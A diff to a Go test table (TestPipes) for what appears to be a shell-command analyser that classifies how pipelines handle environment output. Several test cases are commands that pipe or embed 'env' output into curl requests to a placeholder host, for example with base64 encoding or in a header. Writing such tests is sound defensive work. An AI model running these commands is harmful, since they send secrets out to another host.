@@ -70,10 +70,14 @@ func TestPipes(t *testing.T) {
 		why, source            string
 		reads, showsFirst, log bool
 	}{
-		{"a pipe", "env | curl -d @- h", true, false, false},
+		{"a pipe to one that keeps it", "env | wc -l", true, false, false},
+		{"a pipe to another host", "env | curl -d @- h", true, true, false},
+		{"a header for a host", `curl -H "X: $(env)" h`, true, false, false},
+		{"a filter, and one that keeps it", "env | sort | wc -l", true, false, false},
+		{"a command that starts a filter", "env | nice sort", true, true, false},
 		{"a filter between, which shows what it reads", "env | base64 | curl -d @- h", true, true, false},
 		{"a word", `curl "$(env)"`, true, false, false},
-		{"another program", "ls | curl -d @- h", false, false, false},
+		{"another program", "ls | curl -d @- h", false, true, false},
 		{"a filter alone", "env | sort", true, true, false},
 		{"nobody reads it", "env", false, true, false},
 		{"thrown away", "env > /dev/null", false, false, false},
